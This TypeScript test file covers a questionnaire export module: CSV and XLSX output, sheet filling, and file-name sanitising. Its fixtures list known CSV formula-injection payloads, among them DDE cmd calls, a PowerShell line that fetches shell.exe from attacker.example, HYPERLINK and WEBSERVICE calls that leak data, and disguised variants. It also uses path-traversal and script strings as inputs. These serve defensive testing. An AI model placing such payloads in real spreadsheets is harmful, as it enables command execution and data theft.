import fc from 'fast-check';
import {
  BUYER_COLUMNS,
  EXPORT_MEDIA_TYPES,
  ExportError,
  MAX_CELL_LENGTH,
  REVIEW_COLUMNS,
  base64,
  csvText,
  exportCsv,
  exportDataUrl,
  exportFileName,
  exportItemsFromResults,
  exportRows,
  fillSheet,
  inOriginalOrder,
  isFormulaLike,
  neutralizeCell,
  neutralizeRows,
  originRow,
  sheetJsMerges,
  sheetName,
  utf8Bytes,
  writeXlsx,
  type ExportItem,
  type SheetAnswer,
  type SheetJsWorksheet,
  type SheetJsWriter
} from 'c/questionnaireExport';
import { extractItems, parseCsv, type Grid } from 'c/questionnaireParser';
import type { MatchResult } from 'c/questionnaireModel';

/** Characters OWASP lists as the start of a formula or a DDE call. */
const OWASP_LEADING = ['=', '+', '-', '@', '\t', '\r'];

/** Known payloads from CSV injection write-ups: hyperlinks that leak data, DDE command execution, arithmetic. */
const PAYLOADS = [
  '=HYPERLINK("https://attacker.example/?leak="&A1&B1,"Error: click for details")',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("https://attacker.example/"&A1)',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=1+1'
];

/** Formula payloads hidden behind characters some spreadsheets skip, and full-width signs. */
const DISGUISED = [
  ' =1+1',
  '   +SUM(1,2)',
  '\u00A0=1+1',
  '\u3000-2+3',
  '\uFEFF=1+1',
  '\u200B@SUM(1)',
  '\n=1+1',
  '\u0000=1',
  '\u202E=1',
  ' \t1',
  ' \r1',
  '\uFF1D1+1',
  '\uFF0BSUM(1,2)',
  '\uFF0D2+3',
  '\uFF20SUM(1)'
];

const SAFE = [
  'A&A-01.1',
  'HLAD-04',
  'Yes',
  'Yes. Data is encrypted at rest with AES-256.',
  "'=1+1",
  'a=b',
  '1-2',
  'e-mail',
  '',
  '   ',
  'Ünïcödé',
  '"quoted"'
];

function item(overrides: Partial<ExportItem> & { key: string; order: number }): ExportItem {
  return {
    section: 'Access',
    question: `Question ${overrides.key}?`,
    answer: `Answer ${overrides.key}`,
    ...overrides
  };
}

/** Cells of an exported CSV, read back with the import's own parser. */
function cellsOf(csv: string): string[][] {
  return parseCsv(csv).rows.map((row) => [...row]);
}

describe('formula injection', () => {
  it.each(PAYLOADS)('neutralises the known payload %j', (payload) => {
    expect(isFormulaLike(payload)).toBe(true);
    expect(neutralizeCell(payload)).toBe(`'${payload}`);
    expect(OWASP_LEADING).not.toContain(neutralizeCell(payload).charAt(0));
  });

  it.each(DISGUISED)(
    'neutralises %j, a formula behind blanks, invisible characters or full-width signs',
    (cell) => {
      expect(isFormulaLike(cell)).toBe(true);
      expect(neutralizeCell(cell)).toBe(`'${cell}`);
    }
  );

  it.each(SAFE)('leaves %j unchanged', (cell) => {
    expect(isFormulaLike(cell)).toBe(false);
    expect(neutralizeCell(cell)).toBe(cell);
  });

  it('is idempotent: a neutralised cell is not neutralised twice', () => {
    for (const payload of [...PAYLOADS, ...DISGUISED]) {
      expect(neutralizeCell(neutralizeCell(payload))).toBe(neutralizeCell(payload));
    }
  });

  it('neutralises every cell of a grid without changing the grid given', () => {
    const rows = [['=1', 'ok'], ['@x']] as const;
    expect(neutralizeRows(rows)).toEqual([["'=1", 'ok'], ["'@x"]]);
    expect(rows[0][0]).toBe('=1');
    expect(neutralizeRows([[undefined as unknown as string]])).toEqual([['']]);
  });

  it('exports every known payload as text in CSV, whatever column it sits in', () => {
    const items = PAYLOADS.map((payload, order) =>
      item({
        key: payload,
        order,
        section: payload,
        question: payload,
        answer: payload,
        shortAnswer: payload
      })
    );
    const rows = cellsOf(exportCsv(items));
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    for (const cell of rows.slice(1).flat()) {
      expect(cell.startsWith("'")).toBe(true);
      expect(isFormulaLike(cell)).toBe(false);
    }
    expect(rows[2]?.[0]).toBe("'=cmd|' /C calc'!A0");
  });

  it('property: no exported cell ever starts with a dangerous character', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc
        .tuple(
          fc.constantFrom('', ' ', '\t', '\r', '\n', '\u00A0', '\uFEFF', '\u200B'),
          fc.constantFrom('=', '+', '-', '@', '\uFF1D', 'a', '1', "'"),
          fc.string({ maxLength: 8 })
        )
        .map((parts) => parts.join(''))
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text, text, text), { maxLength: 8 }), (tuples) => {
        const items = tuples.map(([key, section, question, answer], order) =>
          item({ key, order, section, question, answer })
        );
        for (const cell of exportRows(items, { columns: REVIEW_COLUMNS }).flat()) {
          expect(OWASP_LEADING).not.toContain(cell.charAt(0));
          expect(isFormulaLike(cell)).toBe(false);
        }
        for (const cell of cellsOf(exportCsv(items)).flat()) {
          expect(OWASP_LEADING).not.toContain(cell.charAt(0));
          expect(isFormulaLike(cell)).toBe(false);
        }
      }),
      { numRuns: 300 }
    );
  });

  it('property: text that is not formula-like round-trips unchanged through the CSV export and the CSV import', () => {
    // The import reads line breaks inside a cell as \n, so carriage returns are left out of the text.
    const cell = fc
      .string({ unit: 'binary', maxLength: 10 })
      .map((value) => value.replace(/\r/g, ''))
      .filter((value) => !isFormulaLike(value));
    const grid = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 6 });
    fc.assert(
      fc.property(grid, (rows) => {
        expect(parseCsv(csvText(rows)).rows).toEqual(rows);
        expect(parseCsv(csvText(rows, { bom: false, delimiter: ';' })).rows).toEqual(rows);
      }),
      { numRuns: 300 }
    );
  });
});

describe('the standard export', () => {
  const items: ExportItem[] = [
    item({ key: 'A&A-02.1', order: 2, shortAnswer: 'No', band: 'low', score: 0.31, reviewStatus: 'Edited' }),
    item({ key: 'A&A-01.1', order: 0, shortAnswer: 'Yes', band: 'high', score: 0.97, entryId: 'a01' }),
    item({ key: 'A&A-01.2', order: 1, answer: null, band: 'none', score: 0, reviewStatus: 'Unanswered' })
  ];

  it('writes the buyer columns in the original order with the original keys', () => {
    expect(exportRows(items)).toEqual([
      ['Key', 'Section', 'Question', 'Short answer', 'Answer'],
      ['A&A-01.1', 'Access', 'Question A&A-01.1?', 'Yes', 'Answer A&A-01.1'],
      ['A&A-01.2', 'Access', 'Question A&A-01.2?', '', ''],
      ['A&A-02.1', 'Access', 'Question A&A-02.1?', 'No', 'Answer A&A-02.1']
    ]);
  });

  it('adds the match and its review for internal use, with column ids as headers when asked', () => {
    const rows = exportRows(items, { columns: REVIEW_COLUMNS, header: 'ids' });
    expect(rows[0]).toEqual([...REVIEW_COLUMNS]);
    expect(rows[1]?.slice(5)).toEqual(['high', '0.97', 'a01', '']);
    expect(rows[2]?.slice(5)).toEqual(['none', '0', '', 'Unanswered']);
    const labelled = exportRows(items, { columns: REVIEW_COLUMNS });
    expect(labelled[0]?.slice(5)).toEqual(['Confidence', 'Score', 'Library entry', 'Review status']);
    expect(labelled[3]?.slice(5)).toEqual(['Low', '0.31', '', 'Edited']);
  });

  it('falls back to the buyer columns when given no columns, and to the given order for unusable orders', () => {
    const rows = exportRows([item({ key: 'late', order: Number.NaN }), item({ key: 'first', order: 5 })], {
      columns: []
    });
    expect(rows[0]).toEqual(['Key', 'Section', 'Question', 'Short answer', 'Answer']);
    expect(rows.slice(1).map((row) => row[0])).toEqual(['first', 'late']);
    expect(BUYER_COLUMNS).toHaveLength(5);
  });

  it('keeps items of the same order in the order given', () => {
    const sorted = inOriginalOrder([
      { order: 1, id: 'b' },
      { order: 0, id: 'a' },
      { order: 1, id: 'c' }
    ]);
    expect(sorted.map((entry) => entry.id)).toEqual(['a', 'b', 'c']);
  });

  it('writes CSV with a byte-order mark for Excel and CRLF line ends, readable by the import', () => {
    const csv = exportCsv(items);
    expect(csv.startsWith('\uFEFFKey,Section,Question,Short answer,Answer\r\n')).toBe(true);
    expect(cellsOf(csv)).toEqual(exportRows(items));
    const plain = exportCsv(items, { bom: false, delimiter: ';' });
    expect(plain.startsWith('Key;Section;')).toBe(true);
    expect(parseCsv(plain).rows).toEqual(exportRows(items));
  });

  it('exports the CLI results in the order they were matched', () => {
    const results: MatchResult[] = [
      { key: 'q1', section: '', question: 'MFA?', entryId: 'e1', score: 0.9, band: 'high', answer: 'Yes.' },
      { key: 'q2', section: '', question: 'Pets?', entryId: null, score: 0.01, band: 'none', answer: null }
    ];
    const exported = exportItemsFromResults(results);
    expect(exported.map((entry) => [entry.key, entry.order])).toEqual([
      ['q1', 0],
      ['q2', 1]
    ]);
    expect(exportRows(exported, { columns: ['key', 'answer', 'entryId'] })).toEqual([
      ['Key', 'Answer', 'Library entry'],
      ['q1', 'Yes.', 'e1'],
      ['q2', '', '']
    ]);
  });
});

describe("filling the buyer's own sheet", () => {
  /** A CAIQ-like sheet: a title, the header, merged domain cells, an answer column and a notes column. */
  const caiq: Grid = {
    name: 'CAIQv4.0.3',
    rows: [
      ['Consensus Assessments Initiative Questionnaire', '', '', '', ''],
      ['Control Domain', 'Question ID', 'Question', 'CSP CAIQ Answer', 'Comments'],
      ['Audit & Assurance', 'A&A-01.1', 'Are audit policies established and maintained?', '', ''],
      ['', 'A&A-02.1', 'Are independent audits conducted at least annually?', '', ''],
      [
        'Application Security',
        'AIS-01.1',
        'Are application security policies documented?',
        'Yes',
        'Pre-filled'
      ],
      ['=HYPERLINK("https://attacker.example","x")', 'AIS-02.1', 'Is there a secure SDLC?', '', '']
    ],
    merges: [{ startRow: 2, startCol: 0, endRow: 3, endCol: 0 }]
  };

  const answers: SheetAnswer[] = [
    { key: 'A&A-01.1', order: 0, answer: 'Yes. Policies are reviewed every year.', shortAnswer: 'Yes' },
    { key: 'A&A-02.1', order: 1, answer: '=1+1 independent audits', shortAnswer: null },
    { key: 'AIS-01.1', order: 2, answer: null, shortAnswer: null },
    { key: 'XYZ-99', order: 9, answer: 'Not in the sheet', shortAnswer: 'No' }
  ];

  it('writes short answers to the answer column and full answers to the comments column', () => {
    const parsed = extractItems(caiq);
    expect(parsed.layout).toMatchObject({ key: 1, question: 2, answer: 3, comments: 4 });
    const filled = fillSheet(caiq, parsed, answers);

    expect(filled.answerColumn).toBe(3);
    expect(filled.commentsColumn).toBe(4);
    expect(filled.rows[2]?.slice(3)).toEqual(['Yes', 'Yes. Policies are reviewed every year.']);
    expect(filled.rows[3]?.slice(3)).toEqual(["'=1+1 independent audits", '']);
    expect(filled.rows[4]?.slice(3)).toEqual(['Yes', 'Pre-filled']);
    expect(filled.rows[5]?.[0]).toBe('\'=HYPERLINK("https://attacker.example","x")');
    expect(filled.filled).toBe(2);
    expect(filled.unanswered).toEqual(['AIS-01.1', 'AIS-02.1']);
    expect(filled.unplaced).toEqual(['XYZ-99']);
    expect(filled.merges).toEqual(caiq.merges);
    expect(filled.name).toBe('CAIQv4.0.3');
    expect(caiq.rows[2]?.[3]).toBe('');
  });

  it('appends an Answer column after the last one when the sheet has none', () => {
    const grid: Grid = {
      name: 'Vendor',
      rows: [
        ['ID', 'Question'],
        ['V-1', 'Do you encrypt data at rest?'],
        ['V-2', 'Do you use MFA for administrators?', 'note beyond the header']
      ]
    };
    const parsed = extractItems(grid, { format: 'csv' });
    expect(parsed.layout?.answer).toBeUndefined();
    const filled = fillSheet(grid, parsed, [
      { key: 'V-2', order: 1, answer: null, shortAnswer: 'Yes' },
      { key: 'V-1', order: 0, answer: 'Yes, AES-256.', shortAnswer: 'Yes' }
    ]);
    expect(filled.answerColumn).toBe(3);
    expect(filled.commentsColumn).toBeUndefined();
    expect(filled.rows).toEqual([
      ['ID', 'Question', '', 'Answer'],
      ['V-1', 'Do you encrypt data at rest?', '', 'Yes, AES-256.'],
      ['V-2', 'Do you use MFA for administrators?', 'note beyond the header', 'Yes']
    ]);
    expect(filled.merges).toEqual([]);
  });

  it('tells repeated keys apart by their order', () => {
    const grid: Grid = {
      name: 'Dupes',
      rows: [
        ['ID', 'Question', 'Answer'],
        ['Q-1', 'Do you log admin access?', ''],
        ['Q-1', 'Do you review the logs?', '']
      ]
    };
    const parsed = extractItems(grid);
    const filled = fillSheet(grid, parsed, [
      { key: 'Q-1', order: 1, answer: 'Weekly.' },
      { key: 'Q-1', order: 0, answer: 'Yes.' }
    ]);
    expect(filled.rows.map((row) => row[2])).toEqual(['Answer', 'Yes.', 'Weekly.']);
    expect(filled.unplaced).toEqual([]);
  });

  it('reports answers it cannot place when an item has no cell of origin', () => {
    const grid: Grid = { name: 'S', rows: [['ID', 'Question', 'Answer']] };
    const filled = fillSheet(
      grid,
      {
        items: [
          {
            key: 'K',
            section: '',
            question: 'Q?',
            responseType: 'Text',
            choices: [],
            order: 0,
            origin: 'somewhere'
          }
        ],
        layout: { headerRow: 0, key: 0, question: 1, answer: 2 }
      },
      [{ key: 'K', order: 0, answer: 'A' }]
    );
    expect(filled.unplaced).toEqual(['K']);
    expect(filled.filled).toBe(0);
  });

  it('writes rows beyond the grid when an origin points below it', () => {
    const grid: Grid = { name: 'S', rows: [['ID', 'Question', 'Answer']] };
    const filled = fillSheet(
      grid,
      {
        items: [
          {
            key: 'K',
            section: '',
            question: 'Q?',
            responseType: 'Text',
            choices: [],
            order: 0,
            origin: 'S!B3'
          }
        ],
        layout: { headerRow: 0, key: 0, question: 1, answer: 2 }
      },
      [{ key: 'K', order: 0, answer: 'A' }]
    );
    expect(filled.rows).toEqual([['ID', 'Question', 'Answer'], [], ['', '', 'A']]);
  });

  it('refuses a file without a sheet layout (VSAQ)', () => {
    expect(() => fillSheet({ name: 'x', rows: [] }, { items: [] }, [])).toThrow(ExportError);
    expect(() => fillSheet({ name: 'x', rows: [] }, { items: [] }, [])).toThrow(/standard columns/);
  });

  it('reads the row of an origin', () => {
    expect(originRow('CAIQv4.0.3!C14')).toBe(14);
    expect(originRow('Sheet 1!$AB$7')).toBe(7);
    expect(originRow('webapp.json#/items/3')).toBeUndefined();
  });
});

/** A stand-in for SheetJS that records what it was asked to write. */
function recordingWriter(output: unknown = new ArrayBuffer(4)): SheetJsWriter & {
  sheets: Array<{ name?: string; sheet: SheetJsWorksheet; rows: string[][] }>;
} {
  const sheets: Array<{ name?: string; sheet: SheetJsWorksheet; rows: string[][] }> = [];
  const rowsBySheet = new Map<SheetJsWorksheet, string[][]>();
  return {
    sheets,
    utils: {
      book_new: () => ({ SheetNames: [] }),
      aoa_to_sheet: (data: string[][]) => {
        const sheet: SheetJsWorksheet = {};
        rowsBySheet.set(sheet, data);
        return sheet;
      },
      book_append_sheet: (_book: object, sheet: SheetJsWorksheet, name?: string) => {
        sheets.push({ name, sheet, rows: rowsBySheet.get(sheet) ?? [] });
      }
    },
    write: () => output
  };
}

describe('XLSX through SheetJS', () => {
  it('writes neutralised text cells, merges and unique sheet names', () => {
    const writer = recordingWriter();
    const bytes = writeXlsx(writer, [
      {
        name: 'Answers',
        rows: [
          ['Key', 'Answer'],
          ['Q-1', "=cmd|' /C calc'!A0"]
        ]
      },
      { name: 'answers', rows: [['x']], merges: [{ startRow: 0, startCol: 0, endRow: 1, endCol: 1 }] }
    ]);
    expect(bytes).toBeInstanceOf(Uint8Array);
    expect(bytes).toHaveLength(4);
    expect(writer.sheets.map((sheet) => sheet.name)).toEqual(['Answers', 'answers (2)']);
    expect(writer.sheets[0]?.rows[1]).toEqual(['Q-1', "'=cmd|' /C calc'!A0"]);
    expect(writer.sheets[0]?.sheet['!merges']).toBeUndefined();
    expect(writer.sheets[1]?.sheet['!merges']).toEqual([{ s: { r: 0, c: 0 }, e: { r: 1, c: 1 } }]);
  });

  it('accepts bytes as they are and refuses anything else', () => {
    const bytes = new Uint8Array([1, 2, 3]);
    expect(writeXlsx(recordingWriter(bytes), [{ name: 'S', rows: [] }])).toBe(bytes);
    expect(() => writeXlsx(recordingWriter('not bytes'), [{ name: 'S', rows: [] }])).toThrow(ExportError);
  });

  it('refuses an empty workbook and a cell longer than Excel allows, naming the cell', () => {
    expect(() => writeXlsx(recordingWriter(), [])).toThrow(/at least one sheet/);
    const long = 'x'.repeat(MAX_CELL_LENGTH + 1);
    expect(() => writeXlsx(recordingWriter(), [{ name: 'S', rows: [['ok'], ['ok', long]] }])).toThrow(
      /cell B2 of sheet 'S' has 32768 characters/
    );
  });

  it('names sheets the way Excel allows', () => {
    expect(sheetName('Q3/Q4: [draft]*?')).toBe('Q3 Q4   draft');
    expect(sheetName("'quoted'")).toBe('quoted');
    expect(sheetName('   ')).toBe('Answers');
    expect(sheetName('A very long sheet name that goes on and on')).toHaveLength(31);
    expect(
      sheetName('A very long sheet name that goes on and on', new Set(['A very long sheet name that goe']))
    ).toBe('A very long sheet name that (2)');
    expect(sheetJsMerges([{ startRow: 1, startCol: 2, endRow: 3, endCol: 4 }])).toEqual([
      { s: { r: 1, c: 2 }, e: { r: 3, c: 4 } }
    ]);
  });
});

describe('files to download', () => {
  it('builds safe file names', () => {
    expect(exportFileName('Westbridge State - HECVAT Lite', 'xlsx')).toBe(
      'Westbridge State - HECVAT Lite.xlsx'
    );
    expect(exportFileName('../../etc/passwd', 'csv')).toBe('_.._etc_passwd.csv');
    expect(exportFileName('Ünïversité <script>"x"</script>', 'csv')).toBe(
      'Ünïversité _script__x___script_.csv'
    );
    expect(exportFileName('  ...  ', 'csv')).toBe('questionnaire.csv');
    expect(exportFileName('a\u0000b\nc', 'csv')).toBe('a_b_c.csv');
    expect(exportFileName('x'.repeat(300), 'csv')).toHaveLength(124);
  });

  it('encodes UTF-8 like Node does, lone surrogates included', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
        expect([...utf8Bytes(text)]).toEqual([...Buffer.from(text, 'utf8')]);
      }),
      { numRuns: 300 }
    );
    expect([...utf8Bytes('\uD800x\uDC00')]).toEqual([0xef, 0xbf, 0xbd, 0x78, 0xef, 0xbf, 0xbd]);
  });

  it('encodes base64 like Node does', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), (bytes) => {
        expect(base64(bytes)).toBe(Buffer.from(bytes).toString('base64'));
      }),
      { numRuns: 300 }
    );
  });

  it('builds data URLs from a fixed list of media types and base64 content only', () => {
    const url = exportDataUrl('csv', utf8Bytes('Key,Answer\r\n"a","<script>alert(1)</script>"'));
    expect(url.startsWith('data:text/csv;charset=utf-8;base64,')).toBe(true);
    expect(url).not.toMatch(/[<>"\s]/);
    expect(exportDataUrl('xlsx', new Uint8Array([0x50, 0x4b]))).toBe(
      `data:${EXPORT_MEDIA_TYPES.xlsx};base64,UEs=`
    );
  });
});
